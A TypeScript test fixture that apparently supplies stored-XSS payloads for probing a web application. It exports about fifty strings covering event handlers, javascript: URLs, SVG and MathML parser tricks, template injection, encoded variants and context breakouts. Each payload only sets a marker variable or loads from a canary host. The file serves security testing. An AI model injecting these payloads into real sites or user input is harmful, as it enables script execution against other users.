/** No server exists there: a request to it means that a payload was executed. */
export const canaryHost = 'canary.invalid';

/** Global variable that every executed payload sets. */
export const hookName = '__x';

const hit = `window.${hookName}=1`;
const canary = `http://${canaryHost}`;

/** Payloads that fit into a name of 50 characters. */
const namePayloads = [
  `"><img src=x onerror=${hookName}=1>`,
  `<svg/onload=${hookName}=1>`,
  `</title><script>${hookName}=1</script>`,
  `{{${hookName}=1}}\${${hookName}=1}`,
];

/**
 * Stored XSS payloads, one per technique; those that would swallow the following text come last.
 */
export const payloads = [
  `<script>${hit}</script>`,
  `<SCRIPT SRC=${canary}/1.js></SCRIPT>`,
  `<scr<script>ipt>${hit}</scr</script>ipt>`,
  `<script/x>${hit}</script >`,
  `<script type="module">${hit}</script>`,
  `<img src=x onerror="${hit}">`,
  `<img src="${canary}/2.png" alt="x">`,
  `<IMG """><SCRIPT>${hit}</SCRIPT>">`,
  `<img srcset="${canary}/3.png 1x" onload=${hookName}=1>`,
  `<svg onload="${hit}"></svg>`,
  `<svg><script>${hit}</script></svg>`,
  `<svg><animate onbegin="${hit}" attributeName="x" dur="1s"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${hit}'/>#x"></use></svg>`,
  `<svg><a xlink:href="javascript:${hit}"><text y="20">press</text></a></svg>`,
  `<a href="javascript:${hit}">press</a>`,
  `<a href="jAvAsCrIpT&colon;${hit}">press</a>`,
  `<a href=" &#14; java&#9;script:${hit}">press</a>`,
  `<a href="data:text/html,<script>${hit}</script>">press</a>`,
  `<a href="vbscript:${hit}">press</a>`,
  `<a href="x" onmouseover="${hit}" onfocus="${hit}" autofocus>press</a>`,
  `<body onload="${hit}">`,
  `<input onfocus="${hit}" autofocus>`,
  `<details open ontoggle="${hit}"><summary>x</summary></details>`,
  `<video><source onerror="${hit}"></video>`,
  `<audio src="${canary}/4.mp3" onerror="${hit}"></audio>`,
  `<iframe src="javascript:parent.${hit}"></iframe>`,
  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  `<object data="${canary}/5.swf"></object><embed src="${canary}/6.swf">`,
  `<form action="${canary}/7"><button formaction="javascript:${hit}">press</button></form>`,
  `<base href="${canary}/">`,
  `<link rel="stylesheet" href="${canary}/8.css">`,
  `<meta http-equiv="refresh" content="0;url=${canary}/9">`,
  `<p style="background:url(${canary}/10.png)">x</p>`,
  `<style>@import "${canary}/11.css"; p{background:url('${canary}/12.png')}</style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${hit}"></style></mglyph></table></mtext></math>`,
  `<svg></p><style><a id="</style><img src=x onerror='${hit}'>"></svg>`,
  `<noscript><p title="</noscript><img src=x onerror='${hit}'>"></noscript>`,
  `<template><script>${hit}</script></template>`,
  `{{constructor.constructor('${hit}')()}} \${${hit}} #{${hit}} <%= ${hit} %>`,
  `&lt;script&gt;${hit}&lt;/script&gt; &#60;img src=x onerror=${hit}&#62;`,
  `%3Cscript%3E${hit}%3C/script%3E \\u003cscript\\u003e${hit}\\u003c/script\\u003e`,
  `\u202e<script>${hit}</script>\u202c\u200f<img src=x onerror=${hit}>`,
  `</script><script>${hit}</script>`,
  `"}</script><script type="text/javascript">${hit}</script>`,
  `"],["$","script",null,{"dangerouslySetInnerHTML":{"__html":"${hit}"}}]`,
  `'-${hit}-'";${hit};//`,
  `]]><script>${hit}</script><![CDATA[`,
  `</textarea></title></style><img src=x onerror="${hit}">`,
  `<!--><script>${hit}</script>-->`,
  `<img src=x onerror="${hit}"`,
  `<a href="${canary}/13?`,
];

/** All payloads as one text with the index of each. */
export const corpus = payloads.map((payload, index) => `p${index} ${payload}`).join('\n');

/** The first characters of the corpus, up to the length limit of a field. */
export const cutCorpus = (characters: number): string => corpus.slice(0, characters);

export const name = (index: number): string => namePayloads[index % namePayloads.length] ?? '';
